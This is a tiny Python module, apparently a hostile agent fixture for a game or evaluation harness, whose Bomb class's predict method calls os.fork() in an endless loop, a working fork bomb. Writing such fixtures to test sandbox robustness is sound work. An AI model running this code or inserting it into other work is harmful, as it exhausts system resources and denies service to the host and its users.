"""Forks without end."""

import os

from honest import Honest


class Bomb(Honest):
    def predict(self, observation):
        while True:
            os.fork()


def make(**_):
    return Bomb()
